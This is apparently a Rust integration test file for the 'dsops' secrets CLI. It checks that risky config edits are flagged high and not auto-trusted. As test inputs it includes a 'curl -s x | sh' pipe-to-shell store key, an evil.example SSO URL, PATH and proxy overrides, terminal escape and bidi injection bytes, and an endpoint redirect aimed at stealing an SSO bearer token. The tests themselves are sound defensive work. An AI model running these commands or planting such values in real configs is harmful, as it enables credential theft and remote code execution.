//! Trust that cannot be talked around (issue 19): a change that can steer
//! credentials, code or network is high whatever sets it and never
//! auto-trusted; a project's defaultEnv names only its own sets; a review
//! screen and a hook that show what is there (terminal controls escaped,
//! every field of a new store); relative paths that belong to the file that
//! names them; bounded status lines; a config symlink loop named.

use crate::support::*;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

const BASE: &str = "\
version: 1
defaultEnv: dev
envs:
  dev:
    MODE: fast-5d1c
  other:
    OTHER: other-8b2e
";

fn allowed(text: &str) -> (Sandbox, PathBuf) {
    let sb = Sandbox::new();
    let cfg = sb.write("project/.dsops.yaml", text);
    sb.ok(&["allow", cfg.to_str().unwrap()]);
    (sb, cfg)
}

fn edit(cfg: &Path, from: &str, to: &str) {
    let text = std::fs::read_to_string(cfg).unwrap();
    assert!(text.contains(from), "{from}");
    std::fs::write(cfg, text.replacen(from, to, 1)).unwrap();
}

/// `hook-env bash` in `dir`: (stdout, stderr).
fn hook_env(sb: &Sandbox, dir: &Path) -> (String, String) {
    let o = sb
        .cmd()
        .current_dir(dir)
        .args(["hook-env", "bash"])
        .output()
        .unwrap();
    (
        String::from_utf8_lossy(&o.stdout).into_owned(),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

fn show(sb: &Sandbox) -> String {
    String::from_utf8_lossy(&sb.ok(&["allow", "--show"]).stdout).into_owned()
}

/// With `auto_allow: low`, a literal `AWS_ENDPOINT_URL_SSO` (where the next
/// `creds` would send the Identity Center bearer token) or `PATH` (the
/// repository's own `tools/git`) is high, not trusted, not exported; a low
/// edit still is trusted, so the setting is in force.
#[test]
fn auto_allow_low_never_trusts_a_steering_literal() {
    let (sb, cfg) = allowed(BASE);
    sb.write(".config/dsops/config.yaml", "trust: {auto_allow: low}\n");
    let project = sb.path("project");
    edit(&cfg, "MODE: fast-5d1c", "MODE: slow-1f0a");
    let (out, _) = hook_env(&sb, &project);
    assert!(
        out.contains("slow-1f0a"),
        "a low edit was not auto-allowed: {out}"
    );

    for (name, value) in [
        ("AWS_ENDPOINT_URL_SSO", "http://127.0.0.1:9"),
        ("PATH", "./tools:/usr/bin:/bin"),
        ("HTTPS_PROXY", "http://127.0.0.1:9"),
    ] {
        let before = std::fs::read_to_string(&cfg).unwrap();
        edit(
            &cfg,
            "    MODE:",
            &format!("    {name}: \"{value}\"\n    MODE:"),
        );
        let (out, err) = hook_env(&sb, &project);
        assert!(!out.contains(name), "{name} exported: {out}");
        assert!(err.contains("high:") && err.contains(name), "{err}");
        sb.fails(&["export", "--env", "dev"], 4);
        let full = show(&sb);
        assert!(
            full.contains("high") && full.contains("can steer credentials"),
            "{full}"
        );
        std::fs::write(&cfg, before).unwrap();
    }
}

/// A project's `defaultEnv` may only name one of its own env sets: naming
/// the user config's `prod` is refused, naming the file.
#[test]
fn project_default_env_may_not_name_a_user_set() {
    let sb = Sandbox::new();
    sb.write(
        ".config/dsops/config.yaml",
        "version: 1\nenvs:\n  prod:\n    PROD_ONLY: user-prod-3c9a\n",
    );
    let cfg = sb.write(
        "project/.dsops.yaml",
        "version: 1\ndefaultEnv: prod\nenvs:\n  dev:\n    D: d\n",
    );
    let err = sb.fails(&["allow", cfg.to_str().unwrap()], 3);
    assert!(
        err.contains(".dsops.yaml: defaultEnv") && err.contains("prod"),
        "{err}"
    );
    // Named with --config (trusted because named): still refused.
    let o = sb
        .cmd()
        .args([
            "--config",
            cfg.to_str().unwrap(),
            "export",
            "--format",
            "json",
        ])
        .output()
        .unwrap();
    assert!(!o.status.success());
    assert!(!String::from_utf8_lossy(&o.stdout).contains("user-prod-3c9a"));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("defaultEnv"), "{err}");
}

/// The key of an exec store that runs `sh -c` is code: changing it is high.
#[test]
fn a_sh_c_store_key_change_is_high() {
    let (sb, cfg) = allowed(
        "version: 1\nsecretStores:\n  run:\n    type: exec\n    command: [sh, -c]\nenvs:\n  dev:\n    V: {from: {store: run, key: 'echo a'}}\n",
    );
    edit(&cfg, "'echo a'", "'curl -s x | sh'");
    let full = show(&sb);
    assert!(
        full.contains("high") && full.contains("runs an interpreter"),
        "{full}"
    );
    let (_, err) = hook_env(&sb, &sb.path("project"));
    assert!(err.contains("high: V runs different code"), "{err}");
}

/// A new `file` store is shown with its path (and an `aws.sso` one with its
/// start URL, account and role), as an edited one is.
#[test]
fn a_new_store_is_shown_with_every_field() {
    let (sb, cfg) = allowed(BASE);
    edit(
        &cfg,
        "envs:\n",
        "secretStores:\n  f:\n    type: file\n    path: ./leak/secrets-7a2d.env\n  s:\n    type: aws.sso\n    sso_start_url: https://evil-4b1e.example/start\n    sso_region: eu-west-1\n    account_id: \"999999999999\"\n    role_name: Admin-6c3f\nenvs:\n",
    );
    let full = show(&sb);
    for want in [
        "./leak/secrets-7a2d.env",
        "https://evil-4b1e.example/start",
        "999999999999",
        "Admin-6c3f",
    ] {
        assert!(full.contains(want), "{want}: {full}");
    }
}

/// `command: [./tools/get]` and `path: secrets.env` belong to the config's
/// directory: in a subdirectory with its own `tools/get` and `secrets.env`,
/// the project's run and are read.
#[test]
fn relative_paths_resolve_against_the_config_file() {
    let (sb, _) = allowed(
        "version: 1\nsecretStores:\n  get:\n    type: exec\n    command: [./tools/get]\n  f:\n    type: file\n    path: secrets.env\nenvs:\n  dev:\n    FROM_TOOL: {from: {store: get, key: k}}\n    FROM_FILE: {from: {store: f, key: WHO}}\n",
    );
    let script = |rel: &str, who: &str| {
        let p = sb.write(rel, &format!("#!/bin/sh\necho {who}\n"));
        std::fs::set_permissions(&p, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    };
    script("project/tools/get", "project-tool-1e4b");
    script("project/sub/tools/get", "sub-tool-9f2c");
    sb.write("project/secrets.env", "WHO=project-file-2d7a\n");
    sb.write("project/sub/secrets.env", "WHO=sub-file-6e1b\n");
    let o = sb
        .cmd()
        .current_dir(sb.path("project/sub"))
        .args(["export", "--env", "dev", "--format", "json"])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let v = parse_json(&o.stdout);
    assert_eq!(v["FROM_TOOL"], "project-tool-1e4b");
    assert_eq!(v["FROM_FILE"], "project-file-2d7a");
    let (out, _) = hook_env(&sb, &sb.path("project/sub"));
    assert!(
        out.contains("project-tool-1e4b") && !out.contains("sub-tool"),
        "{out}"
    );
}

/// A 5,000-variable set: the status line says how many, it does not list
/// 30 KB of names.
#[test]
fn a_huge_set_prints_a_count() {
    let mut text = String::from("version: 1\nenvs:\n  big:\n");
    for i in 0..5000 {
        text.push_str(&format!("    V{i}: v\n"));
    }
    let (sb, _) = allowed(&text);
    let (out, err) = hook_env(&sb, &sb.path("project"));
    assert!(out.contains("V4999"), "not loaded: {err}");
    assert!(
        err.len() < 1000,
        "{} bytes of status: {}",
        err.len(),
        &err[..200]
    );
    assert!(err.contains("5000 variables"), "{err}");
}

/// A `.dsops.yaml` that is a symlink loop is an error naming it, not
/// silently absent (which let the parent's config load in its place).
#[test]
fn a_config_symlink_loop_is_named() {
    let (sb, _) = allowed(BASE);
    let sub = sb.path("project/sub");
    std::fs::create_dir_all(&sub).unwrap();
    std::os::unix::fs::symlink(".dsops.yaml", sub.join(".dsops.yaml")).unwrap();
    let (out, err) = hook_env(&sb, &sub);
    assert!(
        !out.contains("fast-5d1c"),
        "the parent's config loaded: {out}"
    );
    assert!(err.contains("sub/.dsops.yaml"), "{err}");
    let o = sb
        .cmd()
        .current_dir(&sub)
        .args(["export", "--env", "dev"])
        .output()
        .unwrap();
    assert!(!o.status.success());
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("sub/.dsops.yaml"), "{err}");
}

/// In a real terminal (tmux): `allow --show` and the hook's "not trusted
/// yet" message show ESC, OSC and bidi bytes of a directory name, a store
/// name and a command as visible escapes; none reaches the terminal raw.
#[test]
fn terminal_controls_are_shown_escaped() {
    if !require_tool("tmux") || !require_tool("bash") {
        return;
    }
    let sb = Sandbox::new();
    let dir_name = "evil\x1b[2Jdir\u{202e}x";
    let dir = sb.path(dir_name);
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join(".dsops.yaml"),
        "version: 1\nsecretStores:\n  \"op\\e[8m\":\n    type: exec\n    command: [\"op\\e]0;title\\a\", \"read\\u2066\"]\nenvs:\n  dev:\n    V: {from: {store: \"op\\e[8m\", key: k}}\n",
    )
    .unwrap();
    let rc = sb.write(
        "rc.bash",
        &format!(
            "PS1='$ '\neval \"$('{}' hook bash)\"\ncd '{}'\n",
            bin().display(),
            dir.display()
        ),
    );
    let sock = sb.path("tmux.sock");
    let tmux = |args: &[&str]| {
        Command::new("tmux")
            .arg("-S")
            .arg(&sock)
            .args(args)
            .env_clear()
            .envs(sb.base_env())
            .env("TERM", "xterm-256color")
            .current_dir(&sb.home)
            .output()
            .unwrap()
    };
    let start = format!("bash --noprofile --rcfile '{}' -i", rc.display());
    assert!(
        tmux(&[
            "-f",
            "/dev/null",
            "new-session",
            "-d",
            "-x",
            "250",
            "-y",
            "50",
            &start
        ])
        .status
        .success()
    );
    let pane = || String::from_utf8_lossy(&tmux(&["capture-pane", "-p", "-J"]).stdout).into_owned();
    let wait = |want: &str| {
        let t = Instant::now();
        while t.elapsed() < Duration::from_secs(10) {
            if pane().contains(want) {
                return true;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        false
    };
    let result = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        // The hook's message, from the directory name alone.
        assert!(wait("not trusted yet"), "{}", pane());
        let p = pane();
        assert!(p.contains("evil\\e[2Jdir\\u{202e}x"), "{p}");
        tmux(&[
            "send-keys",
            &format!("'{}' allow --show", bin().display()),
            "Enter",
        ]);
        assert!(wait("new exec store"), "{}", pane());
        let p = pane();
        for want in ["op\\e[8m", "\"op\\e]0;title\\x07\"", "read\\u{2066}"] {
            assert!(p.contains(want), "{want}: {p}");
        }
        assert!(
            !p.contains('\u{202e}') && !p.contains('\u{2066}'),
            "a bidi control reached the terminal: {p}"
        );
    }));
    let _ = tmux(&["kill-server"]);
    if let Err(e) = result {
        std::panic::resume_unwind(e);
    }
}

/// The whole attack: with `auto_allow: low`, a pulled edit adds a literal
/// `AWS_ENDPOINT_URL_SSO` pointing at a second server on 127.0.0.1; a shell
/// that evals the hook and then runs `creds` must not send the bearer token
/// there (that server sees no request at all).
#[test]
fn a_pulled_endpoint_literal_never_receives_the_bearer_token() {
    let legit = FakeIdc::start(&[]);
    let attacker = FakeIdc::start(&[]);
    let mut sb = sso_sandbox(&legit, "us-east-1", "");
    sb.set("DSOPS_USE_DEVICE_CODE", "1");
    sb.ok(&["creds", "--profile", "dev"]);
    // The next creds needs GetRoleCredentials, with the bearer token.
    std::fs::remove_dir_all(sb.path(".aws/cli/cache")).unwrap();
    let before = legit.counter("get_role_credentials");
    sb.write(".config/dsops/config.yaml", "trust: {auto_allow: low}\n");
    let cfg = sb.write("project/.dsops.yaml", BASE);
    sb.ok(&["allow", cfg.to_str().unwrap()]);
    edit(
        &cfg,
        "    MODE:",
        &format!("    AWS_ENDPOINT_URL_SSO: {}\n    MODE:", attacker.url),
    );
    let script = format!(
        "eval \"$('{bin}' hook-env bash)\"; '{bin}' creds --profile dev --no-login",
        bin = bin().display()
    );
    let o = Command::new("bash")
        .args(["--noprofile", "--norc", "-c", &script])
        .env_clear()
        .envs(sb.base_env())
        .current_dir(sb.path("project"))
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(attacker.counter("get_role_credentials"), 0, "{err}");
    assert!(o.status.success(), "{err}");
    assert_eq!(legit.counter("get_role_credentials"), before + 1, "{err}");
}
